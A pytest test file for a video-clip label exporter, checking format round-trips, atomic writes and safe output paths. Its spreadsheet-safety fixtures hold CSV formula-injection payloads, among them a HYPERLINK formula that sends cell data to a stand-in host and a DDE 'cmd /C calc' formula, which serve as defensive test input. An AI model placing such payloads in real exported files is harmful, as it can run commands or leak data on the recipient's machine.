"""Every export format, parsed back by an independent reader and checked against the store's labels."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from collections import Counter
from datetime import datetime
from pathlib import Path

import pandas as pd
import pytest
from label_fixtures import make_label_run
from pg_server import StoreBackend

from selavi_core.cli import main as selavi
from selavi_core.labels import LabelStore
from selavi_core.labels.exports import (
    CSV_COLUMNS,
    KINETICS_HEADER,
    ExportError,
    export_bytes,
    export_labels,
    run_hash,
    sidecar_path,
)
from selavi_core.runs.run import Run


def label_run(store: LabelStore) -> None:
    """A curated state with every kind of decision, a snapshot in the middle, commas and slashes in names."""
    ids = [str(c) for c in store.run.clip_ids]
    store.rename_cluster(0, 0, "engine, diesel", annotator="ana", expected_version=None)
    store.rename_cluster(0, 1, "dog/puppy", annotator="bob", expected_version=None)
    unsure = ids[int(store.run.scores("confidence")[:, 0].argmin())]  # a person overrides the model's weakest call
    store.override_clips([ids[2], unsure], "cat", annotator="bob", expected_version=None)
    store.reject_clips(0, [ids[5]], annotator="ana", expected_version=None)
    store.snapshot("label set v1", annotator="ana")
    store.rename_cluster(0, 0, "engine", annotator="ana", expected_version=None)
    store.label_clips([ids[6], ids[10]], "siren", annotator="cy", expected_version=None)
    # cluster 3 stays unnamed: its members (bar overrides) are exported as unlabelled


@pytest.fixture(scope="module")
def plain_run(tmp_path_factory: pytest.TempPathFactory) -> LabelStore:
    run_dir = make_label_run(tmp_path_factory.mktemp("plain"), n=48)
    store = LabelStore.open(run_dir)
    label_run(store)
    return store


@pytest.fixture(scope="module")
def media_run(tmp_path_factory: pytest.TempPathFactory) -> LabelStore:
    root = tmp_path_factory.mktemp("media")
    run_dir = make_label_run(root, n=16, media_dir=root / "media")
    assert selavi(["previews", str(root / "catalog")]) == 0  # the real previews command
    store = LabelStore.open(run_dir)
    label_run(store)
    return store


def expected(store: LabelStore, snapshot: str | None = None) -> pd.DataFrame:
    exp = store.effective_labels(0, snapshot).set_index("clip_id")
    cat = Run(store.run.dir).catalog.set_index("clip_id")
    return exp.join(cat[["path", "start_s", "end_s", "split", "source_id", "yt_start_s", "yt_end_s"]])


def iso_seconds(text: str) -> float:
    return datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp()


def check_sidecar(out: Path, store: LabelStore, fmt: str, labels: list[str | None], sources: list[str]) -> dict:
    prov = json.loads(sidecar_path(out).read_text())
    assert prov["format"] == fmt and prov["output"] == out.name
    run = prov["run"]
    assert run["catalog_hash"] == "cafe0123" and run["checkpoint_hash"] == "beef4567"
    assert run["run_hash"] == run_hash(store.run.dir) and run["dir"] == str(store.run.dir.resolve())
    assert prov["counts"]["by_label"] == dict(Counter(lab for lab in labels if lab))
    assert {k: v for k, v in prov["counts"]["by_source"].items() if v} == dict(Counter(sources))
    assert prov["labels"]["run_key"] == store.run_key and prov["selavi_version"]
    assert set(prov["annotators"]) <= {"ana", "bob", "cy"}
    return prov


# ------------------------------------------------------------------------------------- csv, json


def test_csv_round_trip(plain_run: LabelStore, tmp_path: Path) -> None:
    out = tmp_path / "labels.csv"
    res = export_labels(plain_run, "csv", out)
    with open(out, newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames) == CSV_COLUMNS
        rows = list(reader)
    exp = expected(plain_run)
    assert [r["clip_id"] for r in rows] == list(exp.index) and res.rows == 48
    catalog_dir = Path(plain_run.run.meta.catalog_dir)
    for r in rows:
        e = exp.loc[r["clip_id"]]
        assert (r["label"] or None) == e.label and r["label_source"] == e.label_source
        assert r["cluster"] == e.cluster and int(r["head"]) == 0
        assert r["path"] == str(catalog_dir / e.path) and float(r["start_s"]) == e.start_s
        assert r["file"] == Path(e.path).name  # the file name next to the opaque id
        assert float(r["confidence"]) == pytest.approx(e.confidence, abs=1e-6)
        assert (r["annotator"] or None) == e.annotator
        if r["time"]:
            assert iso_seconds(r["time"]) == pytest.approx(e.time, abs=1e-3)
        else:
            assert e.label_source == "none"
    ids = [str(c) for c in plain_run.run.clip_ids]
    by_id = {r["clip_id"]: r for r in rows}
    assert by_id[ids[0]]["label"] == "engine" and by_id[ids[2]]["label"] == "cat"
    assert by_id[ids[1]]["label"] == "dog/puppy" and by_id[ids[5]]["label"] == ""  # rejected from cluster 1
    assert by_id[ids[6]]["label_source"] == "override" and by_id[ids[3]]["label_source"] == "none"
    prov = check_sidecar(out, plain_run, "csv", [r["label"] for r in rows], [r["label_source"] for r in rows])
    import hashlib

    assert prov["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()


def test_json_round_trip(plain_run: LabelStore, tmp_path: Path) -> None:
    out = tmp_path / "labels.json"
    export_labels(plain_run, "json", out)
    doc = json.loads(out.read_text(encoding="utf-8"))
    exp = expected(plain_run)
    assert [c["clip_id"] for c in doc["clips"]] == list(exp.index)
    for c in doc["clips"]:
        assert set(c) == set(CSV_COLUMNS)
        e = exp.loc[c["clip_id"]]
        assert c["label"] == e.label and c["label_source"] == e.label_source and c["cluster"] == e.cluster
    counts = Counter((c["label"], c["label_source"]) for c in doc["clips"] if c["label"])
    vocab = {v["label"]: v for v in doc["vocabulary"]}
    assert set(vocab) == {lab for lab, _ in counts}
    for lab, v in vocab.items():
        assert v["override"] == counts[(lab, "override")] and v["cluster"] == counts[(lab, "cluster")]
        assert v["count"] == v["override"] + v["cluster"]
    check_sidecar(out, plain_run, "json", [c["label"] for c in doc["clips"]], [c["label_source"] for c in doc["clips"]])


def test_snapshot_and_filters(plain_run: LabelStore, tmp_path: Path) -> None:
    out = tmp_path / "v1.csv"
    export_labels(plain_run, "csv", out, snapshot="label set v1")
    with open(out, newline="") as f:
        rows = {r["clip_id"]: r for r in csv.DictReader(f)}
    exp = expected(plain_run, "label set v1")
    assert {c: (r["label"] or None) for c, r in rows.items()} == exp["label"].to_dict()
    assert "engine, diesel" in {r["label"] for r in rows.values()} and "siren" not in {
        r["label"] for r in rows.values()
    }
    prov = json.loads(sidecar_path(out).read_text())
    assert prov["labels"]["snapshot"] == "label set v1" and prov["labels"]["last_event_id"] == 5

    named = tmp_path / "named.csv"
    export_labels(plain_run, "csv", named, only_named=True, min_confidence=0.5)
    with open(named, newline="") as f:
        kept = list(csv.DictReader(f))
    now = expected(plain_run)
    want = now[now["label"].notna() & ((now["label_source"] == "override") | (now["confidence"] >= 0.5))]
    assert [r["clip_id"] for r in kept] == list(want.index) and all(r["label"] for r in kept)
    # the fixture has person-given labels on clips the model was unsure of: they must survive the filter
    unsure = now[(now["label_source"] == "override") & (now["confidence"] < 0.5)]
    assert len(unsure) and set(unsure.index) <= {r["clip_id"] for r in kept}


def test_export_bytes_for_download_button(plain_run: LabelStore) -> None:
    data, prov = export_bytes(plain_run, "csv", head=0)
    rows = list(csv.DictReader(data.decode().splitlines()))
    assert len(rows) == 48 and prov["format"] == "csv"


# ------------------------------------------------------------------------------------- kinetics, vggsound


def youtube_expectation(store: LabelStore) -> pd.DataFrame:
    exp = expected(store)
    return exp[exp["label"].notna() & exp["source_id"].notna()]


def test_kinetics_csv(plain_run: LabelStore, tmp_path: Path) -> None:
    out = tmp_path / "kinetics.csv"
    res = export_labels(plain_run, "kinetics", out)
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert tuple(rows[0]) == KINETICS_HEADER
    want = youtube_expectation(plain_run)
    body = rows[1:]
    assert len(body) == len(want) == res.rows
    for (label, ytid, t0, t1, split), (_cid, e) in zip(body, want.iterrows(), strict=True):
        assert (label, ytid, split) == (e.label, e.source_id, e.split)
        assert (int(t0), int(t1)) == (int(e.yt_start_s), int(e.yt_end_s))  # whole seconds, as Kinetics writes them
    exp = expected(plain_run)
    prov = json.loads(sidecar_path(out).read_text())
    assert prov["counts"]["skipped"] == {
        "unlabeled": int(exp["label"].isna().sum()),
        "no_youtube_id": int((exp["label"].notna() & exp["source_id"].isna()).sum()),
    }
    assert prov["counts"]["by_label"] == dict(Counter(r[0] for r in body))


def test_vggsound_csv_is_headerless_and_quotes_commas(plain_run: LabelStore, tmp_path: Path) -> None:
    out = tmp_path / "vggsound.csv"
    export_labels(plain_run, "vggsound", out, snapshot="label set v1")  # the label "engine, diesel" needs quoting
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    exp = expected(plain_run, "label set v1")
    want = exp[exp["label"].notna() & exp["source_id"].notna()]
    assert [tuple(r) for r in rows] == [
        (e.source_id, str(int(e.yt_start_s)), e.label, e.split) for e in want.itertuples()
    ]
    assert any(r[2] == "engine, diesel" for r in rows)


def test_youtube_formats_need_ids(tmp_path: Path) -> None:
    store = LabelStore.open(make_label_run(tmp_path, n=12, n_youtube=0))
    store.rename_cluster(0, 0, "x", annotator="ana", expected_version=None)
    for fmt in ("kinetics", "vggsound"):
        with pytest.raises(ExportError, match="source_id"):
            export_labels(store, fmt, tmp_path / f"{fmt}.csv")
        assert not (tmp_path / f"{fmt}.csv").exists()


# ------------------------------------------------------------------------------------- fiftyone


def walk_tree(root: Path) -> dict[str, tuple[str, Path]]:
    """clip id -> (class folder, file) from a plain directory walk."""
    found: dict[str, tuple[str, Path]] = {}
    for folder, dirs, files in os.walk(root):
        assert not dirs or Path(folder) == root, "the tree is one level of class folders"
        for name in files:
            clip = Path(name).stem
            assert clip not in found, f"{clip} appears twice"
            found[clip] = (Path(folder).name, Path(folder) / name)
    return found


def test_fiftyone_tree_with_symlinks(media_run: LabelStore, tmp_path: Path) -> None:
    from selavi_core.media.preview import PreviewIndex

    previews = PreviewIndex(media_run.run.meta.catalog_dir)
    exp = expected(media_run)
    windows = [c for c, e in exp.iterrows() if Path(e.path).name == "long.mp4"]  # 1 s windows of a 6 s file
    assert windows
    # one windowed clip loses its preview: it must link the source and record its window instead
    no_preview = windows[0]
    moved = previews.lookup(no_preview).mp4
    hidden = moved.with_suffix(".hidden")
    os.replace(moved, hidden)
    try:
        out = tmp_path / "fo"
        res = export_labels(media_run, "fiftyone", out)
    finally:
        os.replace(hidden, moved)
    prov = json.loads(sidecar_path(out).read_text())
    found = walk_tree(out)
    assert set(found) == set(exp.index) and res.rows == len(exp)
    classes = prov["classes"]
    for clip, (folder, path) in found.items():
        e = exp.loc[clip]
        assert (folder == "_unlabeled") if e.label is None else (classes[folder] == e.label)
        assert path.is_symlink() and path.resolve().is_file()
        is_window = clip in windows
        if is_window and clip != no_preview:
            assert path.resolve() == previews.lookup(clip).mp4.resolve()
        else:
            assert path.resolve() == Path(e.path).resolve()
    rel = f"{found[no_preview][0]}/{found[no_preview][1].name}"
    assert prov["windows"] == {rel: {"source": exp.loc[no_preview, "path"], "start_s": exp.loc[no_preview, "start_s"],
                                     "end_s": exp.loc[no_preview, "end_s"]}}  # fmt: skip
    assert "dog_puppy" in classes and classes["dog_puppy"] == "dog/puppy"  # a slash cannot be a folder name
    assert prov["files"] == len(exp) and prov["link"] == "symlink"


def test_fiftyone_copy_and_replace(media_run: LabelStore, tmp_path: Path) -> None:
    out = tmp_path / "fo"
    export_labels(media_run, "fiftyone", out)
    export_labels(media_run, "fiftyone", out, copy=True)  # a second export replaces the first, whole
    found = walk_tree(out)
    exp = expected(media_run)
    assert set(found) == set(exp.index)
    for clip, (_folder, path) in found.items():
        assert not path.is_symlink() and path.stat().st_size > 0
        if Path(exp.loc[clip, "path"]).name != "long.mp4":  # whole files are copied as they are
            assert path.read_bytes() == Path(exp.loc[clip, "path"]).read_bytes()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".fo.")], "temporary trees left behind"
    stranger = tmp_path / "someone-elses"
    stranger.mkdir()
    (stranger / "notes.txt").write_text("keep me")
    with pytest.raises(ExportError, match="not a previous SeLaVi export"):
        export_labels(media_run, "fiftyone", stranger)
    assert (stranger / "notes.txt").read_text() == "keep me"


# ------------------------------------------------------------------------------------- label studio


def validate_label_studio_tasks(tasks: object, config_xml: str) -> None:
    """The documented import shape (labelstud.io/guide/predictions, /guide/task_format): a list of
    tasks, each a ``data`` object keyed by the config's ``$variables`` plus a ``predictions`` list;
    each prediction has ``model_version`` (str), optional numeric ``score`` and a ``result`` list of
    ``{from_name, to_name, type, value}`` where from_name/to_name name a control and an object tag of
    the labelling config and a ``choices`` value lists choices that the config defines."""
    config = ET.fromstring(config_xml)
    objects = {el.get("name"): el for el in config.iter() if el.get("value", "").startswith("$")}
    controls = {el.get("name"): el for el in config.iter() if el.get("toName")}
    assert isinstance(tasks, list) and tasks
    for task in tasks:
        assert isinstance(task, dict) and set(task) <= {"data", "predictions", "annotations", "meta", "id"}
        data = task["data"]
        assert isinstance(data, dict)
        for obj in objects.values():
            assert isinstance(data[obj.get("value")[1:]], str)
        assert isinstance(task["predictions"], list)
        for pred in task["predictions"]:
            assert isinstance(pred["model_version"], str) and pred["model_version"]
            if "score" in pred:
                assert isinstance(pred["score"], int | float) and 0 <= pred["score"] <= 1
            assert isinstance(pred["result"], list) and pred["result"]
            for r in pred["result"]:
                control = controls[r["from_name"]]
                assert control.get("toName") == r["to_name"] and r["to_name"] in objects
                assert r["type"] == control.tag.lower() == "choices"
                allowed = {c.get("value") for c in control.iter("Choice")}
                assert isinstance(r["value"]["choices"], list) and set(r["value"]["choices"]) <= allowed


def test_label_studio_import_json(media_run: LabelStore, tmp_path: Path) -> None:
    from selavi_core.media.preview import PreviewIndex

    out = tmp_path / "tasks.json"
    export_labels(media_run, "labelstudio", out)
    tasks = json.loads(out.read_text())
    prov = json.loads(sidecar_path(out).read_text())
    validate_label_studio_tasks(tasks, prov["label_config"])
    exp = expected(media_run)
    previews = PreviewIndex(media_run.run.meta.catalog_dir)
    assert [t["data"]["clip_id"] for t in tasks] == list(exp.index)
    for t in tasks:
        e = exp.loc[t["data"]["clip_id"]]
        assert Path(t["data"]["video"]).resolve() == previews.lookup(t["data"]["clip_id"]).mp4.resolve()  # H.264 cut
        if e.label is None:
            assert t["predictions"] == []
        else:
            (pred,) = t["predictions"]
            assert pred["result"][0]["value"]["choices"] == [e.label]
            assert pred["score"] == pytest.approx(e.confidence, abs=1e-6)
            assert pred["model_version"] == prov["model_version"] == "selavi-beef4567-head0"
    # served by Label Studio's local-files storage: URLs relative to its document root
    out2 = tmp_path / "tasks-url.json"
    root = Path(media_run.run.meta.catalog_dir)
    export_labels(media_run, "labelstudio", out2, url_prefix="/data/local-files/?d=", media_root=root)
    for t in json.loads(out2.read_text()):
        assert t["data"]["video"].startswith("/data/local-files/?d=previews/")


# ------------------------------------------------------------------------------------- CLI and atomicity


def test_cli_export(plain_run: LabelStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "cli.csv"
    code = selavi(["export", str(plain_run.run.dir), "--format", "csv", "--out", str(out), "--only-named"])
    text = capsys.readouterr().out
    labels = plain_run.effective_labels(0)
    n_override, n_cluster = ((labels["label_source"] == s).sum() for s in ("override", "cluster"))
    assert code == 0 and f"by source: override {n_override}, cluster {n_cluster}, none 0" in text
    assert f"wrote {n_override + n_cluster} csv records" in text and "provenance" in text
    with open(out, newline="") as f:
        assert all(r["label"] for r in csv.DictReader(f))
    # head 1 has no cluster names: only the per-clip labels (which hold in every head) remain
    out1 = tmp_path / "head1.csv"
    assert selavi(["export", str(plain_run.run.dir), "--format", "csv", "--out", str(out1), "--head", "1"]) == 0
    capsys.readouterr()
    with open(out1, newline="") as f:
        rows1 = list(csv.DictReader(f))
    assert {r["head"] for r in rows1} == {"1"}
    assert {r["clip_id"] for r in rows1 if r["label"]} == set(
        labels.loc[labels["label_source"] == "override", "clip_id"]
    )
    code = selavi(["export", str(plain_run.run.dir), "--format", "json", "--out", str(tmp_path / "x.json"),
                   "--snapshot", "nope"])  # fmt: skip
    assert code == 2 and "no snapshot named 'nope'" in capsys.readouterr().err


def test_cli_export_from_each_backend(
    store_backend: StoreBackend, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``selavi export --store URL`` reads the labels from SQLite or PostgreSQL alike; a password in the URL
    (PostgreSQL's trust authentication ignores it here) is printed nowhere and kept out of the sidecar."""
    secret = "s3cr3t-pw"
    url = None if store_backend.url is None else store_backend.url.replace("://selavi@", f"://selavi:{secret}@")
    run_dir = make_label_run(tmp_path / "r", n=24)
    store = LabelStore.open(run_dir, store=url)
    label_run(store)
    out = tmp_path / "labels.csv"
    code = selavi(["export", str(run_dir), "--format", "csv", "--out", str(out), *(["--store", url] if url else [])])
    printed = capsys.readouterr()
    assert code == 0, printed.err
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    exp = expected(store)
    assert [r["clip_id"] for r in rows] == list(exp.index)
    assert [r["label"] or None for r in rows] == list(exp["label"]) and {r["label"] for r in rows} >= {"engine", "cat"}
    prov = json.loads(sidecar_path(out).read_text())
    assert prov["labels"]["run_key"] == store.run_key
    if url is not None:
        assert prov["labels"]["store"].startswith("postgresql+psycopg://selavi:***@")
        assert secret not in printed.out + printed.err + sidecar_path(out).read_text()
        assert not (run_dir / "labels.sqlite").exists()


def test_interrupted_export_never_leaves_a_half_file(tmp_path: Path) -> None:
    """SIGKILL an export while it writes its temporary file: the final name keeps the previous export."""
    run_dir = make_label_run(tmp_path, n=30_000, heads=1, n_youtube=0)
    store = LabelStore.open(run_dir)
    store.rename_cluster(0, 0, "before", annotator="ana", expected_version=None)
    out = tmp_path / "big.csv"
    export_labels(store, "csv", out)
    old_bytes = out.read_bytes()
    old_sidecar = sidecar_path(out).read_text()
    store.rename_cluster(0, 0, "after", annotator="ana", expected_version=None)
    killed_mid_write = 0
    for attempt in range(3):
        proc = subprocess.Popen(
            [sys.executable, "-m", "selavi_core.cli", "export", str(run_dir), "--format", "csv", "--out", str(out)],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        deadline = time.monotonic() + 120
        while not list(tmp_path.glob(".big.csv.*.tmp")) and proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.002)
        time.sleep(0.01 * attempt)
        if proc.poll() is None:
            proc.send_signal(signal.SIGKILL)
            killed_mid_write += 1
        proc.wait()
        assert out.read_bytes() == old_bytes, "the final name holds something other than the previous export"
        assert sidecar_path(out).read_text() == old_sidecar
        for tmp in tmp_path.glob(".big.csv.*.tmp"):  # what the killed export staged (hidden, never the final name)
            shutil.rmtree(tmp)
    assert killed_mid_write >= 2, "the exports finished before they could be interrupted"
    export_labels(store, "csv", out)  # an uninterrupted export then replaces it whole
    with open(out, newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 30_000 and {r["label"] for r in rows if r["cluster"] == "0"} == {"after"}


# ------------------------------------------------------------------------------------- spreadsheet safety, --out

FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'


@pytest.fixture()
def formula_run(tmp_path: Path) -> LabelStore:
    """Names and ids that a spreadsheet would run, and a real YouTube id that starts with '-'."""
    run_dir = make_label_run(tmp_path, n=12, heads=1, n_youtube=12)
    cat_file = tmp_path / "catalog" / "clips.parquet"
    cat = pd.read_parquet(cat_file)
    cat.loc[0, "source_id"] = "-3B32lodo2M"  # real YouTube ids may start with '-': kept exact
    cat.loc[4, "source_id"] = "=cmd|' /C calc'!A0"
    cat.loc[8, "split"] = "@SUM(1+1)"
    cat.to_parquet(cat_file, index=False)
    store = LabelStore.open(run_dir)
    store.rename_cluster(0, 0, FORMULA, annotator="=evil()", expected_version=None)
    ids = [str(c) for c in store.run.clip_ids]
    store.override_clips([ids[1]], "+1 and more", annotator="ana", expected_version=None)
    store.override_clips([ids[2]], "-2+3", annotator="ana", expected_version=None)
    store.override_clips([ids[3]], "@here", annotator="ana", expected_version=None)
    return store


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(formula_run: LabelStore, tmp_path: Path) -> None:
    ids = [str(c) for c in formula_run.run.clip_ids]
    out = tmp_path / "labels.csv"
    export_labels(formula_run, "csv", out)
    with open(out, newline="", encoding="utf-8") as f:
        rows = {r["clip_id"]: r for r in csv.DictReader(f)}
    assert rows[ids[0]]["label"] == "'" + FORMULA and rows[ids[0]]["annotator"] == "'=evil()"
    assert rows[ids[1]]["label"] == "'+1 and more" and rows[ids[2]]["label"] == "'-2+3"
    assert rows[ids[3]]["label"] == "'@here"
    for row in rows.values():
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    assert (
        json.loads(sidecar_path(out).read_text())["neutralised_cells"] == 3 + 3 + 3
    )  # cluster 0: 3 labels, 3 annotators; 3 overrides
    # json (and labelstudio) keep every value exact
    export_labels(formula_run, "json", tmp_path / "labels.json")
    clips = {c["clip_id"]: c for c in json.loads((tmp_path / "labels.json").read_text())["clips"]}
    assert clips[ids[0]]["label"] == FORMULA and clips[ids[0]]["annotator"] == "=evil()"
    assert clips[ids[2]]["label"] == "-2+3"


def test_youtube_formats_neutralise_labels_but_keep_real_ids(formula_run: LabelStore, tmp_path: Path) -> None:
    for fmt in ("kinetics", "vggsound"):
        out = tmp_path / f"{fmt}.csv"
        export_labels(formula_run, fmt, out)
        with open(out, newline="", encoding="utf-8") as f:
            lines = list(csv.reader(f))
        where = (1, 0, 4) if fmt == "kinetics" else (0, 2, 3)  # ytid, label, split
        rows = [tuple(r[i] for i in where) for r in (lines[1:] if fmt == "kinetics" else lines)]
        by_id = {ytid: (label, split) for ytid, label, split in rows}
        assert by_id["-3B32lodo2M"] == ("'" + FORMULA, "test")  # clip 0: id exact, label neutralised
        assert by_id["'=cmd|' /C calc'!A0"][0] == "'" + FORMULA  # clip 4 (cluster 0): an id that is a formula
        assert by_id[next(y for y in by_id if by_id[y][1] == "'@SUM(1+1)")][0] == "'" + FORMULA  # clip 8's split
        labels = [label for _y, label, _s in rows]
        assert "'-2+3" in labels and "'+1 and more" in labels and "'@here" in labels
        assert len(rows) == 6  # clips 0, 4, 8 (cluster 0) and the three overrides


def test_names_with_line_breaks_are_refused_and_an_old_one_stops_line_formats(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from selavi_core.labels import semantics
    from selavi_core.labels.errors import LabelError

    store = LabelStore.open(make_label_run(tmp_path, n=12, heads=1, n_youtube=12))
    ids = [str(c) for c in store.run.clip_ids]
    for bad in ("dog\nbarking", "dog\rbarking", "dog\tbarking", "dog\x00", "dog\u2028barking", "bell\x1b[31m"):
        with pytest.raises(LabelError, match="control character"):
            store.rename_cluster(0, 0, bad, annotator="ana", expected_version=None)
        with pytest.raises(LabelError, match="control character"):
            store.override_clips([ids[1]], bad, annotator="ana", expected_version=None)
        with pytest.raises(LabelError, match="control character"):
            store.merge_clusters(0, [0, 1], name=bad, annotator="ana", expected_version=None)
        with pytest.raises(LabelError, match="control character"):
            store.snapshot(bad, annotator="ana")
    with pytest.raises(LabelError, match="control character"):
        store.rename_cluster(0, 0, "dog", annotator="ana\x07", expected_version=None)
    assert not store.events(), "a refused name writes nothing"
    store.rename_cluster(0, 0, "  dog barking \n", annotator="ana", expected_version=None)  # the ends are trimmed
    assert store.cluster_names(0)["0"] == "dog barking"
    # a log written before the rule holds a name with a line break
    with monkeypatch.context() as m:
        m.setattr(semantics, "has_control_chars", lambda text: False)
        store.rename_cluster(0, 1, "cat\nmeowing", annotator="ana", expected_version=None)
    for fmt in ("kinetics", "vggsound"):
        with pytest.raises(ExportError, match=r"'cat\\nmeowing' holds a line break.*one line per clip"):
            export_labels(store, fmt, tmp_path / f"{fmt}.csv")
        assert not (tmp_path / f"{fmt}.csv").exists()
    export_labels(store, "csv", tmp_path / "labels.csv")  # csv quotes it: one record per clip still
    with open(tmp_path / "labels.csv", newline="", encoding="utf-8") as f:
        assert "cat\nmeowing" in [r["label"] for r in csv.DictReader(f)]


def test_out_must_be_a_regular_file_or_a_new_path(
    plain_run: LabelStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    dir_link = tmp_path / "tree_link"
    dir_link.symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    (tmp_path / "elsewhere").mkdir()
    cases = [
        ("csv", link, "is a symbolic link"),
        ("csv", fifo, r"is a named pipe \(FIFO\)"),
        ("json", Path("/dev/null"), "is a character device"),
        ("fiftyone", dir_link, "is a symbolic link"),
    ]
    for fmt, out, says in cases:
        with pytest.raises(ExportError, match=f"--out {out} {says}; .*regular file or a new path"):
            export_labels(plain_run, fmt, out)
    assert link.is_symlink() and target.read_text() == "keep me" and stat_is_fifo(fifo)
    assert os.path.exists("/dev/null") and not os.path.isfile("/dev/null")
    # the sidecar likewise
    out = tmp_path / "labels.csv"
    sidecar_path(out).symlink_to(target)
    with pytest.raises(ExportError, match="provenance sidecar .* is a symbolic link"):
        export_labels(plain_run, "csv", out)
    assert target.read_text() == "keep me" and not out.exists()
    # through the CLI: one line, exit 2
    code = selavi(["export", str(plain_run.run.dir), "--format", "csv", "--out", str(link)])
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1 and "is a symbolic link" in err
    # a new path and a previous export (a regular file) are fine
    fresh = tmp_path / "new" / "labels.csv"
    export_labels(plain_run, "csv", fresh)
    export_labels(plain_run, "csv", fresh)
    assert fresh.is_file() and not fresh.is_symlink()


def stat_is_fifo(path: Path) -> bool:
    import stat

    return stat.S_ISFIFO(os.lstat(path).st_mode)
